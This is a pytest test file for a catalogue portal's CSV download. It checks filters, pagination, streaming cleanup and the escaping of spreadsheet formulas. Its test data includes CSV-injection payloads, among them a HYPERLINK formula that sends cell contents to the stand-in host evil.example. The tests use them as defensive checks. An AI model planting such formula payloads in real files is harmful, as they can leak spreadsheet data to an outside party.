"""CSV download of the catalogue: the search's filters apply, every listing comes once, and
no cell can run as a formula when the file is opened in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from qa_portal.accounts.models import Role
from qa_portal.catalogue import operations as catalogue
from qa_portal.catalogue.exports.tabular import CSV_COLUMNS, neutralise
from qa_portal.core.db import commit

HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"Details")', "@SUM(1)", "-2+3", "+cmd"]


def download(client, query: str = "") -> list[dict[str, str]]:
    response = client.get(f"/catalogue.csv{query}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="catalogue-')
    reader = csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""))
    assert tuple(reader.fieldnames) == CSV_COLUMNS
    return list(reader)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("  =1+1", "'  =1+1"),
        ("Data & AI", "Data & AI"),
        ("e-learning", "e-learning"),
        ("", ""),
        (5.0, 5.0),
        (None, None),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(cell, expected):
    assert neutralise(cell) == expected


def test_the_csv_holds_every_listing_once_and_no_formula(
    client, make_listing, make_org, make_user, people
):
    hostile_org = make_org('=HYPERLINK("http://evil.example","Provider")', domain="evil.example")
    hostile_member = make_user(Role.PROVIDER, org=hostile_org)
    listings = [
        make_listing(
            title,
            member=hostile_member if i == 0 else people.provider_a,
            keywords=["=1+1", "-minus", "DevOps"] if i == 1 else ["DevOps"],
        )
        for i, title in enumerate(HOSTILE_TITLES)
    ]
    listings.append(make_listing("Plain Title", member=people.provider_b))
    rows = download(client, "?per_page=2&page=2")  # pagination does not cut the download
    assert sorted(int(r["id"]) for r in rows) == sorted(listing.id for listing in listings)
    by_id = {int(r["id"]): r for r in rows}
    for listing in listings:
        row = by_id[listing.id]
        title = row["title"]
        assert title == (f"'{listing.title}" if listing.title[0] in "=+-@" else listing.title)
        assert row["url"] == f"http://qa.test/catalogue/{listing.id}"
        assert row["status"] == "valid"
        assert row["reference"] == listing.public["reference"]
    for row in rows:  # nothing a spreadsheet would run
        assert all(value[:1] not in ("=", "+", "-", "@", "\t", "\r") for value in row.values())
    assert by_id[listings[0].id]["provider"] == "'" + hostile_org.name
    assert by_id[listings[1].id]["keywords"] == "'=1+1, -minus, DevOps"
    plain = by_id[listings[-1].id]
    assert (plain["title"], plain["provider"], plain["ects"], plain["eqf_level"]) == (
        "Plain Title",
        "Provider B",
        "5",
        "6",
    )


def test_the_csv_follows_the_search_and_its_filters(client, make_listing, people):
    kube = make_listing("Kubernetes Operations")
    ethics = make_listing(
        "Data Ethics", member=people.provider_b, keywords=["ethics"], country="FR"
    )
    closed = make_listing("Closed Programme", member=people.provider_b)
    catalogue.withdraw_listing(people.provider_b, closed, "Programme closed.")
    commit()

    assert {int(r["id"]) for r in download(client)} == {kube.id, ethics.id}
    assert [int(r["id"]) for r in download(client, f"?provider={people.org_b.id}")] == [ethics.id]
    assert [int(r["id"]) for r in download(client, "?country=FR")] == [ethics.id]
    assert [int(r["id"]) for r in download(client, "?q=ethics")] == [ethics.id]
    assert [int(r["id"]) for r in download(client, "?q=ethics&country=IE")] == []
    withdrawn = download(client, "?status=withdrawn")
    assert [(int(r["id"]), r["status"]) for r in withdrawn] == [(closed.id, "withdrawn")]
    titles = [r["title"] for r in download(client, "?sort=title")]
    assert titles == ["Data Ethics", "Kubernetes Operations"]


def test_a_bad_filter_is_refused_with_its_reason(client):
    response = client.get("/catalogue.csv?eqf=12")
    assert response.status_code == 400
    assert "EQF level must be between 1 and 8" in response.get_data(as_text=True)


def test_a_download_cut_short_leaves_no_open_cursor(client, make_listing, people):
    for title in ("First", "Second", "Third"):
        make_listing(title)
    response = client.get("/catalogue.csv?per_page=1")
    chunks = iter(response.response)
    assert next(chunks).decode("utf-8-sig").startswith("id,reference,title")
    assert next(chunks)  # the first listing; the visitor then goes away
    response.close()  # on PostgreSQL an unclosed server-side cursor would warn (an error here)
    assert client.get("/catalogue.csv").get_data().count(b"\n") == 4
